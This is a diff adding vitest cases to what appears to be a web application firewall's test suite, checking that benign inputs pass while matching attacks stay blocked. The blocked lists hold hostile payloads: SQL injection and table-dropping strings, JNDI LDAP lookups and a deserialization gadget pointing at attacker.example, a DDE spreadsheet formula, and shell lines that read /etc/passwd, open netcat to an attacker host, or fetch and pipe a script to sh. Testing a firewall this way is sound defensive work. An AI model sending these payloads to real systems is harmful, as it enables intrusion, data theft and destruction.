@@ -3,7 +3,7 @@
 // cases of families once blocked at paranoia 1, each beside the attacks its fix must keep blocking.
 import { beforeAll, describe, expect, it } from "vitest";
 import { loadHarness, type Harness } from "../support/harness.js";
-import { inspect, type Req } from "../support/engine.js";
+import { inspect, inspectWith, type Req } from "../support/engine.js";
 
 let h: Harness;
 beforeAll(async () => {
@@ -127,7 +127,44 @@ const OTLP = [
   [attr("process.pid", "1"), attr("process.executable.path", "/opt/java/openjdk/bin/java"), attr("process.executable.name", "java"), attr("process.runtime.name", "OpenJDK Runtime Environment"), attr("process.runtime.version", "21.0.2+13-LTS"), attr("process.owner", "app"), attr("process.command", "node")],
 ];
 
+// Statements a driver logs bind their values through placeholders (`?`, `$1`, `:name`): whatever the key.
+const BOUND = [
+  "SELECT count(*) FROM pg_stat_activity WHERE state = $1",
+  "SELECT max(created_at) FROM orders WHERE user_id = ?",
+  "SELECT count(*) FROM orders WHERE user_id = :uid AND deleted = false",
+  "DELETE FROM sessions WHERE expires_at < :cutoff",
+  "UPDATE users SET name = :name WHERE id = :id",
+  "INSERT INTO audit (user_id, action) VALUES (:userId, :action)",
+];
+// ... and an injection written into such a statement, or one cut by a comment or followed by another.
+const BOUND_ATTACKS = [
+  "SELECT count(*) FROM users WHERE id = ? OR 1=1",
+  "SELECT count(*) FROM users WHERE id = $1 UNION SELECT password FROM users",
+  "SELECT count(*) FROM users WHERE id = ?; DROP TABLE users",
+  "SELECT count(*) FROM users WHERE id = ? --",
+  "/**/SELECT count(*) FROM users WHERE id = ?",
+  "SELECT count(*) FROM users WHERE id = ? AND name = 'x",
+  "SELECT sleep(5) FROM dual WHERE 1 = ?",
+  "SELECT table_name FROM information_schema.tables WHERE table_schema = ?",
+  "SELECT count(*) FROM users WHERE id = :id AND ascii(substring(password,1,1))>64",
+  "DELETE FROM users WHERE id = :id OR 1=1",
+  "UPDATE users SET role = 'admin' WHERE id = ? -- x",
+  "SELECT count(*) FROM orders",
+];
+
 describe("OpenTelemetry exports", () => {
+  it.each(BOUND)("passes a bound statement in db.statement and db.query.text: %s", (sql) => {
+    for (const key of ["db.statement", "db.query.text"]) {
+      const v = verdict(otlp([attr("db.system", "postgresql"), attr(key, sql)]));
+      expect(v.blocked, v.why).toBe(false);
+      expect(inspect(h, otlp([attr(key, sql)])).score, v.why).toBe(0);
+    }
+  });
+  it.each(BOUND_ATTACKS)("blocks: %s", (sql) => {
+    expect(verdict(otlp([attr("db.statement", sql)])).blocked).toBe(true);
+    expect(verdict(search(sql)).blocked).toBe(true);
+  });
+
   it.each(OTLP.map((a, i) => [i, a] as const))("passes: span %i", (_, attrs) => {
     const v = verdict(otlp(attrs));
     expect(v.blocked, v.why).toBe(false);
@@ -141,5 +178,133 @@ describe("OpenTelemetry exports", () => {
     [{ key: "process.mainModule" }],
   ])("blocks the gadget outside a frame, process internals: %j", (body) => {
     expect(verdict(kube(body)).blocked).toBe(true);
+  });
+});
+
+// A `#` with text after it is a ticket number, not a comment ending an EXEC (T-SQL has no `#` comment);
+// a parameter named with a SQL word (`user`, `sleep`) is a name the sender wrote, its value read alone.
+describe("ticket prose and SQL words as parameter names", () => {
+  it.each([
+    ["a review request", search("Execute request #567: please review")],
+    ["a job note", form("Execute job #12 tonight, then report")],
+    ["a handout note in a user field", { path: `/events?user=${encodeURIComponent("(print 4*6 handouts for the meeting)")}` }],
+    ["a count in a sleep field", { path: "/prefs?sleep=(5)" }],
+  ] as [string, Req][])("passes: %s", (_, req) => {
+    const v = verdict(req);
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each([
+    search("exec xp_cmdshell #567: please review"),
+    search("exec myproc #"),
+    search("exec myproc -- please review"),
+    search("Execute request #5"),
+    { path: `/events?user=${encodeURIComponent("(select password from users)")}` },
+    { path: `/x?${encodeURIComponent("if(now()=sysdate(),sleep(6),0)")}` },
+    { path: `/x?${encodeURIComponent("'admin', '1'='1'")}` },
+  ] as Req[])("blocks: %j", (req) => {
+    expect(verdict(req).blocked).toBe(true);
+  });
+});
+
+// A User-Agent of plain words after a word that is also a command (a phrase, a sentence) names no command line.
+const ua = (value: string): Req => ({ path: "/", headers: [["host", "svc.local"], ["user-agent", value]] });
+describe("User-Agents that open with a command word", () => {
+  it.each(["echo chamber", "eval requests are queued", "watch party", "time keeper is ready"])("passes: %s", (text) => {
+    const v = verdict(ua(text));
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each(["id", "sleep 5", "uname -a", "set -o vi", "knife node show", "whoami now", "nslookup attacker.example", "ping 10.0.0.7", "echo chamber; cat /etc/passwd"])("blocks: %s", (text) => {
+    expect(verdict(ua(text)).blocked).toBe(true);
+  });
+});
+
+// Spreadsheet cells posted as JSON or CSV: a formula opens the cell with `=`, which no SQL context takes before IF(.
+const csv = (text: string): Req => ({ method: "POST", path: "/import", headers: [["host", "svc.local"], ["content-type", "text/csv"]], body: text });
+describe("spreadsheet formulas", () => {
+  it.each<[string, Req]>([
+    ["a JSON cell", kube({ cells: [{ ref: "B6", formula: '=IF(A6>0,"yes","no")' }] })],
+    ["a nested condition", kube({ formula: '=IF(AND(B2>=10,C2<5),"ok","check")' })],
+    ["a CSV row", csv('name,total,flag\nann,4,=IF(B2>0,"yes","no")\n')],
+  ])("passes: %s", (_, req) => {
+    const v = verdict(req);
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each([
+    kube({ v: "if(2>1,3,4)" }),
+    kube({ v: "1=if(2>1,3,4)" }),
+    kube({ v: "1 and if(length(user)>1,1,0)" }),
+    kube({ v: "=if(1=1,sleep(5),0)" }),
+    kube({ v: "=cmd|' /C calc'!A0" }),
+    csv("name,total\nann,=if(1=1,sleep(5),0)\n"),
+  ])("blocks: %j", (req) => {
+    expect(verdict(req).blocked).toBe(true);
+  });
+});
+
+// An identity provider's LDAP settings (Keycloak components): a directory server's address, nothing to look up.
+const idp = (config: object): Req => ({ method: "POST", path: "/admin/realms/corp/components", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ name: "corp-ldap", providerId: "ldap", providerType: "org.keycloak.storage.UserStorageProvider", config }) });
+describe("LDAP connection URLs in identity-provider settings", () => {
+  it.each([
+    ["ldaps://ldap.corp.example:636"],
+    ["ldap://ldap.corp.example"],
+    ["ldap://ldap1.corp.example:389 ldap://ldap2.corp.example:389"],
+  ])("passes: %s", (url) => {
+    const v = verdict(idp({ connectionUrl: [url], usersDn: ["ou=People,dc=corp,dc=example"], bindDn: ["cn=svc-keycloak,ou=Services,dc=corp,dc=example"] }));
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each([
+    "ldap://attacker.example:1389/Exploit",
+    "ldap://attacker.example:1389/",
+    "ldap://attacker.example:1389?cn",
+    "${jndi:ldap://attacker.example:1389}",
+    "${jndi:ldaps://attacker.example}",
+    "ldap://127.0.0.1:389",
+    "ldap://169.254.169.254:389",
+    "see ldap://attacker.example:1389/o=x",
+    "gopher://attacker.example:70",
+  ])("blocks: %s", (url) => {
+    expect(verdict(idp({ connectionUrl: [url] })).blocked).toBe(true);
+    expect(verdict(search(url)).blocked).toBe(true);
+  });
+  it("blocks a gadget naming a bare directory address", () => {
+    expect(verdict(kube({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://attacker.example:1389", autoCommit: true })).blocked).toBe(true);
+  });
+});
+
+// A migration API runs the SQL it is sent by design: the same statements after a breakout are a stacked
+// injection, and no grammar tells the endpoint's intent. An exclusion scoped to its path and field does.
+describe("SQL migrations posted to a migration API", () => {
+  const migration = (sql: string): Req => ({ method: "POST", path: "/api/v1/migrations", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ id: "20261129_orders_note", sql }) });
+  const SCRIPTS = [
+    "CREATE INDEX idx_orders_user ON orders(user_id);",
+    "ALTER TABLE orders ADD COLUMN note text; CREATE INDEX idx_orders_note ON orders(note);",
+  ];
+  const EXCLUSION = "|sqli||/api/v1/migrations|POST|json:sql";
+  it.each(SCRIPTS)("blocks without an exclusion: %s", (sql) => {
+    expect(verdict(migration(sql)).blocked).toBe(true);
+  });
+  it.each(SCRIPTS)("passes with an exclusion of sqli for json:sql on the migration path: %s", (sql) => {
+    expect(inspectWith(h, migration(sql), "", EXCLUSION).score).toBe(0);
+  });
+  it("still blocks a stacked query in another field or on another path", () => {
+    const other: Req = { method: "POST", path: "/api/v1/migrations", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ id: "1; DROP TABLE users", sql: "SELECT 1" }) };
+    expect(inspectWith(h, other, "", EXCLUSION).score).toBeGreaterThanOrEqual(5);
+    expect(inspectWith(h, { ...migration(SCRIPTS[1]), path: "/api/v1/orders" }, "", EXCLUSION).score).toBeGreaterThanOrEqual(5);
+  });
+});
+
+// A Markdown table row (one line, `|` at both ends, two cells or more): its pipes are text, not pipelines.
+describe("Markdown table rows", () => {
+  it.each(["| users | /docs |", "| id | name |", "| users | 3 |", "| sort | date |"])("passes: %s", (text) => {
+    for (const carrier of [json, search]) {
+      const v = verdict(carrier(text));
+      expect(v.blocked, v.why).toBe(false);
+    }
+  });
+  it.each([
+    "| id |", "| id", "| users | /docs", "| id || x |", "| id ; x |", "| id | x |\n| whoami |",
+    "| whoami | nc attacker.example 4444 |", "| cat /etc/passwd | x |", "| wget http://a.example/x.sh -O /tmp/x | sh |", "| bash -i | x |",
+  ])("blocks: %j", (text) => {
+    expect(verdict(json(text)).blocked).toBe(true);
   });
 });
